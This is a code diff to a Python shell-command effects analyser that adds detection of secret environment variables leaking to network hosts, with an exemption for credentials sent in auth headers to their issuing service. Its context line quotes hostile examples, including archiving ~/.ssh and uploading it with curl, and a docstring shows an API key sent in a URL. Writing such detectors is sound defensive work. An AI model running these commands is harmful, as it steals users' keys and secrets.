@@ -9,9 +9,11 @@ bash x` executes network code, `tar czf k.tgz ~/.ssh && curl -F f=@k.tgz` sends 
 
 from __future__ import annotations
 
-from collections.abc import Callable, Iterable, Sequence
+from collections.abc import Callable, Iterable, Mapping, Sequence
 from dataclasses import dataclass, field
 from typing import NamedTuple
+
+import re2
 
 from sidecar.effects.catalogue import Catalogue, effects_of
 from sidecar.effects.hosts import host_of
@@ -67,7 +69,7 @@ def line_effects(
         if not known:
             unknown.append(command.program)
             read_only = False
-        elif not quiet or any(e.action is not Action.READ for e in found):
+        elif not quiet or any(e.action not in _LOOKS for e in found):
             read_only = False
         effects.extend(found)
     return LineEffects(
@@ -142,6 +144,8 @@ def _command_effects(
             )  # fmt: skip
     if command.program in _ENV_PRINTERS and not command.positionals:
         output_sources = (ENVIRONMENT,)
+    if parsed is not None and any(e.action in _NETWORK for e in found):
+        found.extend(_secrets_sent(command, parsed.options, found))
     found = [_with_flow(effect, flow, input_origin, input_sources) for effect in found]
     found.extend(_redirect_effects(command, output_origin, output_sources, output_text, flow))
     _remember(found, flow, output_origin, output_sources)
@@ -166,6 +170,52 @@ def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
             if not word.startswith("-"):
                 break
     return program, args
+
+
+_NETWORK = frozenset({Action.SEND, Action.FETCH, Action.CONNECT})
+_LOOKS = frozenset({Action.READ, Action.FETCH})  # what read-only commands may do
+# `$GITHUB_TOKEN`, `${OPENAI_API_KEY}`: variables that hold secrets by their name.
+_SECRET_VARIABLE = re2.compile(
+    r"\$\{?([A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|"
+    r"CREDENTIALS?|AUTH|SESSION_?KEY)[A-Za-z0-9_]*)\}?",
+    re2.Options(),
+)
+# Options through which a program presents a credential to the host it talks to (using a
+# token is not leaking it): curl -H 'Authorization: Bearer $TOKEN', -u user:$PASSWORD.
+_CREDENTIAL_OPTIONS = frozenset(
+    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--http-user",
+     "--http-password", "--password", "--aws-sigv4", "-E", "--cert", "--key"}
+)  # fmt: skip
+
+
+def _secrets_sent(
+    command: SimpleCommand, options: Mapping[str, tuple[str, ...]], effects: Sequence[Effect]
+) -> list[Effect]:
+    """A secret variable in a URL or body leaves the machine (`curl x.io/?k=$OPENAI_API_KEY`);
+    the same variable in an auth header, sent to its own service, is just its use."""
+    presented = {v for name in _CREDENTIAL_OPTIONS for v in options.get(name, ())}
+    hosts = [e.target for e in effects if e.action in _NETWORK]
+    found: list[Effect] = []
+    for word in command.args:
+        if type(word) is str or "$" not in word or word in presented:
+            continue
+        if word[:1] != "-" and ":" in word.split("$", 1)[0] and "://" not in word:
+            continue  # httpie's `Header:$TOKEN`
+        for name in _SECRET_VARIABLE.findall(word):
+            leaks = [h for h in hosts if not _issued_by(name, h)]
+            if leaks:
+                flags = frozenset({"secret_variable"})
+                found.append(
+                    Effect(Action.SEND, leaks[0], data=(ENVIRONMENT,), flags=flags,
+                           program=command.program)
+                )  # fmt: skip
+    return found
+
+
+def _issued_by(variable: str, host: str) -> bool:
+    """GITHUB_TOKEN to api.github.com, OPENAI_API_KEY to api.openai.com: the issuer itself."""
+    vendor = variable.lower().split("_")[0]
+    return len(vendor) >= 3 and vendor in host.lower()
 
 
 def _output_of(
